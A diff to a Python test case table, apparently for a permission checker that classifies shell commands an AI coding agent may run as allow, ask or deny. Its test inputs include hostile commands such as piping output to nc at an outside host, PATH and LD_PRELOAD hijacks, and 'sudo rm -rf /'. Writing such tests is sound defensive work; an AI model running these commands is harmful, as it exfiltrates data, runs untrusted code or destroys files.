@@ -63,7 +63,8 @@ CASES: list[C] = [
     C("git push && make test", "ask", suggest=("Bash(git push:*)", "Bash(make test:*)")),
     # --- pipelines
     C("cat a | grep b", "allow"),
-    C("cat a | wc -l", "ask", suggest=("Bash(wc:*)",)),
+    C("cat a | wc -l", "allow"),  # readers of project files need no rule (issue 29)
+    C("cat a | wc -l | nc example.com 80", "ask", suggest=("Bash(nc:*)",)),
     C("cat a |& grep b", "allow"),
     C("cat a | rm b", "deny"),
     # --- subshells and groups
@@ -101,7 +102,9 @@ CASES: list[C] = [
     C("for PATH in /tmp/evil; do git status; done", "ask"),
     # --- assignments don't hide the command; dangerous ones are never allowed
     C("FOO=1 rm x", "deny"),
-    C("FOO=1 BAR=2 pytest", "allow"),
+    C("LC_ALL=C NO_COLOR=1 pytest", "allow"),
+    # a variable not known to be harmless may configure the program (an allow-list, issue 29)
+    C("FOO=1 BAR=2 pytest", "ask"),
     C("PATH=/tmp/evil git log", "ask", suggest=()),
     C("LD_PRELOAD=x.so cat a", "ask"),
     C("PATH=/tmp/evil; git status", "ask"),
@@ -109,7 +112,8 @@ CASES: list[C] = [
     C("GIT_EXTERNAL_DIFF=./x git diff", "ask"),
     # --- wrappers
     C("env rm x", "deny"),
-    C("env -i FOO=1 pytest", "allow"),
+    C("env -i LANG=C pytest", "allow"),
+    C("env -i FOO=1 pytest", "ask"),
     C("env PATH=. pytest", "ask"),
     C("env -S 'rm x'", "ask"),
     C("sudo rm -rf /", "deny"),
@@ -136,7 +140,8 @@ CASES: list[C] = [
     C("find . -exec rm {} \\;", "deny"),
     C("find . -execdir rm {} +", "deny"),
     C("find . -ok rm {} ';'", "deny"),
-    C("find . -name x", "ask"),
+    C("find . -name x", "allow"),
+    C("find / -name x", "ask"),
     C("find . -name x", "allow", allow=("Bash(find:*)",)),
     C("find . -exec git push \\;", "ask", allow=("Bash(find:*)",)),
     C("find . -exec cat {} +", "allow", allow=("Bash(find:*)", "Bash(cat:*)")),
